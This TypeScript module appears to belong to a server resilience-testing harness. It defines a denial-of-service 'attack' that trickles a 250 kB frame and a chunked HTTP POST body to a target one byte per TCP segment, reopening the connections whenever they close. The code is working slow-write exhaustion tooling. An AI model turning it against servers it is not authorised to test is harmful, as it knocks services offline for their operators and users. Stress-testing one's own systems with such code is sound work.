import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { count, type Attack } from '../attack.ts'
import { frame, openVisitor, reopening } from '../raw-socket.ts'

const size = 250_000

/** A frame and a body of 250 kB, each byte in its own TCP segment. */
export const oneByteSegments: Attack = (target, achieved) => {
  reopening(achieved, async (gone) => {
    const visitor = await openVisitor(target, { name: 'bytes', gone })
    trickle(visitor.socket, frame(1, ' '.repeat(size)), () => count(achieved, 'segments to a socket'))
  })
  reopening(achieved, async (gone) => {
    const { hostname, port, pathname } = new URL(target.url)
    const [localAddress] = target.addresses
    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
    socket.on('error', () => undefined) // its close says the same
    socket.once('close', gone)
    socket.resume()
    socket.setNoDelay()
    const type = 'Content-Type: application/json\r\nTransfer-Encoding: chunked'
    socket.write(`POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n${type}\r\n\r\n`)
    trickle(socket, Buffer.from('1\r\n \r\n'.repeat(size)), () => count(achieved, 'segments of posts'))
  })
}

function trickle(socket: Socket, bytes: Buffer, wrote: () => void): void {
  let place = 0
  const burst = () => {
    for (let times = 0; times < 250 && place < bytes.length; times++) {
      if (!socket.writable || socket.writableLength > 1_000) break
      socket.write(bytes.subarray(place, (place += 1)))
      wrote()
    }
    if (!socket.destroyed && place < bytes.length) setTimeout(burst, 1)
  }
  burst()
}
